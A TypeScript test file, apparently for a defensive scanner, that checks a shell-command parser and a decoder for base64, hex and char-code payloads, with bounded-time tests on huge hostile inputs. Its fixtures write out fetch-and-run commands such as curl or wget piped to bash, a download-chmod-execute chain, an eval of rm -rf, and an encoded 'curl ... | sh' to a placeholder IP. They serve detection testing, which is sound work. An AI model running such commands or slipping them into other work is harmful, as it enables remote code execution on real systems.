import { describe, expect, it } from 'vitest';
import { decodeBase64, findEncodedBlobs, inert } from '../../src/analysis/payloads.js';
import { parseShell } from '../../src/analysis/shell.js';
import { downstream, type ShellView } from '../../src/analysis/shell-view.js';

const names = (v: ShellView) => v.commands.map((c) => `${c.via}:${c.name}`);

describe('parseShell', () => {
  it('splits pipelines and keeps exact offsets', () => {
    const text = 'curl -fsSL https://x.io/i.sh | bash';
    const v = parseShell(text, 100);
    expect(names(v)).toEqual(['top:curl', 'top:bash']);
    const [curl, bash] = v.commands;
    expect(curl!.pipeline).toBe(bash!.pipeline);
    expect(downstream(v, curl!).map((c) => c.name)).toEqual(['bash']);
    expect(curl!.start).toBe(100);
    expect(text.slice(bash!.start - 100, bash!.end - 100)).toBe('bash');
  });
  it('joins line continuations and strips wrappers', () => {
    const v = parseShell('wget -qO- \\\n  https://a/b \\\n  | sudo -u root env A=1 bash -s');
    expect(names(v)).toEqual(['top:wget', 'top:bash']);
    expect(v.commands[1]!.wrappers).toEqual(['sudo', 'env']);
    expect(v.commands[0]!.argv.map((w) => w.text)).toEqual(['wget', '-qO-', 'https://a/b']);
  });
  it('separates list elements', () => {
    const v = parseShell('curl -o x https://a && chmod +x x; ./x || echo failed');
    expect(names(v)).toEqual(['top:curl', 'top:chmod', 'top:x', 'top:echo']);
    expect(new Set(v.commands.map((c) => c.pipeline)).size).toBe(4);
  });
  it('parses command and process substitutions as children', () => {
    const v = parseShell('bash <(curl -s https://a) ; sh -c "$(wget -qO- https://b)"; echo `id`');
    expect(names(v)).toEqual([
      'top:bash',
      'process-sub:curl',
      'top:sh',
      'command-sub:wget',
      'top:echo',
      'command-sub:id',
    ]);
    expect(v.commands[1]!.parent).toBe(v.commands[0]!.id);
  });
  it('parses sh -c and eval bodies, and here-documents fed to a shell', () => {
    const v = parseShell(
      "bash -c 'curl a | sh'\neval 'rm -rf /tmp/x'\ncat <<EOF | bash\nwget b\nEOF\npython3 <<EOF\nimport os\nEOF\n",
    );
    expect(names(v)).toEqual([
      'top:bash',
      'shell-c:curl',
      'shell-c:sh',
      'top:eval',
      'eval:rm',
      'top:cat',
      'top:bash',
      'heredoc:wget',
      'top:python3',
    ]);
    expect(v.commands.find((c) => c.name === 'python3')!.heredoc!.text).toBe('import os\n');
  });
  it('handles quotes, escapes, comments and redirects', () => {
    const v = parseShell(`echo "a | b" 'c ; d' e\\ f # | sh\nprintf x >> ~/.bashrc 2>&1 < in.txt`);
    expect(v.commands[0]!.argv.map((w) => w.text)).toEqual(['echo', 'a | b', 'c ; d', 'e f']);
    expect(v.commands[1]!.redirects.map((r) => `${r.op}${r.target?.text ?? ''}`)).toEqual([
      '>>~/.bashrc',
      '2>&',
      '<in.txt',
    ]);
    expect(v.commands).toHaveLength(2);
  });
  it('never throws on unbalanced input', () => {
    for (const t of ['$(', '"$(', "'", '`', '<(', 'a <<', '((((', '))))', 'x\\', '$((1+', '${']) {
      expect(() => parseShell(t)).not.toThrow();
    }
  });
});

describe('payload decoding', () => {
  it('decodes printable base64 and refuses binary', () => {
    expect(decodeBase64('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo')).toBe(
      'curl -s http://203.0.113.7/x | sh',
    );
    expect(decodeBase64('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')).toBeUndefined();
  });
  it('finds hex, escapes and char codes', () => {
    const text = `a 6375726c202d732068747470733a2f2f612e696f207c207368 b "\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20" c String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100)`;
    const blobs = findEncodedBlobs(text);
    expect(blobs.map((b) => [b.kind, b.decoded])).toEqual([
      ['hex', 'curl -s https://a.io | sh'],
      ['escape', 'curl -s '],
      ['charcode', 'hello world'],
    ]);
  });
  it('skips data-URI images and SRI digests', () => {
    const text =
      'data:image/png;base64,Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoY3VybA== sha512-Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoY3VybA==';
    expect(findEncodedBlobs(text)).toEqual([]);
  });
  it('makes evidence inert', () => {
    expect(inert('a\u001b[31m\nb\u202e c', 10)).toBe('a [31m b c');
    expect(inert('x'.repeat(50), 10)).toBe(`${'x'.repeat(9)}…`);
  });
});

describe('bounded on hostile input (1 MB lines)', () => {
  const MB = 1 << 20;
  const hostile = [
    '$('.repeat(MB / 2),
    '"'.repeat(MB),
    "'".repeat(MB),
    '`'.repeat(MB),
    '<('.repeat(MB / 2),
    '\\'.repeat(MB),
    '| '.repeat(MB / 2),
    'a'.repeat(MB),
    '<<'.repeat(MB / 2),
    `curl ${'x'.repeat(MB)} | sh`,
    'curl a | '.repeat(MB / 9),
    '$( ( "'.repeat(MB / 5),
  ];
  it.each(hostile.map((h, i) => [i, h] as const))('parseShell #%i', (_i, text) => {
    const t0 = performance.now();
    parseShell(text);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
  const blobs = [
    'A'.repeat(MB),
    'A1'.repeat(MB / 2),
    '0a'.repeat(MB / 2),
    '\\x41'.repeat(MB / 4),
    `fromCharCode(${'1,'.repeat(MB / 2)}`,
    'chr(1)+'.repeat(MB / 7),
  ];
  it.each(blobs.map((h, i) => [i, h] as const))('findEncodedBlobs #%i', (_i, text) => {
    const t0 = performance.now();
    findEncodedBlobs(text);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});
